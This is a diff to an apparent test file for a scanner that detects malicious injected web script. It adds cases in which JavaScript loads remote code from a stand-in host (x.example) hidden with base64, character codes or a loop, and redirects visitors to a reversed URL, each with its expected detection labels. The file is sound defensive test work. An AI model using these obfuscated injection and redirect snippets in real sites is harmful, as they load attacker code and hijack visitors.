@@ -11,6 +11,7 @@ async function found(text: string): Promise<{ reason: string; message: string }[
 }
 
 const hidden = (text: string): string => `atob('${Buffer.from(text).toString('base64')}')`;
+const codes = (text: string): string => `String.fromCharCode(${[...Buffer.from(text)].join()})`;
 const toPhones = (url: string): string =>
   `if (/iPhone|Android/.test(navigator.userAgent)) location.href = '${url}';`;
 const cover = `var f = document.createElement('iframe'); f.style.cssText = 'position:fixed;width:100%;height:100%;z-index:9999'; f.src = 'https://x.example/'; document.body.appendChild(f);`;
@@ -37,11 +38,24 @@ const cases: Record<string, [string, string[]]> = {
   ],
   'another host in packed code': [
     `var s = document.createElement('script'); s.src = ${hidden('https://x.example/a.js')}; document.head.appendChild(s);`,
-    ['high hidden-destination'],
+    ['high hidden-destination', 'high script-from-decoded-url'],
   ],
   'a host whose registered part can be read': [
     `var s = document.createElement('script'); s.src = 'https://' + ['en', 'gine'].join('') + '.x-cdn.example/a.js'; document.head.appendChild(s);`,
     [],
+  ],
+  'a script from an address in letter codes': [
+    `var s = document.createElement('script'); s.src = ${codes('https://x.example/a.js')}; document.head.appendChild(s);`,
+    ['high hidden-destination', 'high script-from-decoded-url'],
+  ],
+  'a visitor sent to an address written backwards': [
+    `location.href = 'a/elpmaxe.x//:sptth'.split('').reverse().join('');`,
+    ['high hidden-destination', 'high visitor-sent-away', 'high redirect-to-decoded-url'],
+  ],
+  'a script from an address that packing alone hides': [
+    `var to = ''; for (const code of [${[...Buffer.from('https://x.example/a.js')].join()}]) to += String.fromCharCode(code);
+    var s = document.createElement('script'); s.src = to; document.head.appendChild(s);`,
+    ['high hidden-destination'],
   ],
   'a host that borrows a name, decoded and not yet used': [
     `var to = ${hidden('https://google-analytlcs.example.test/')}; var too = ${hidden('https://www.google-analytics.example/x')};`,
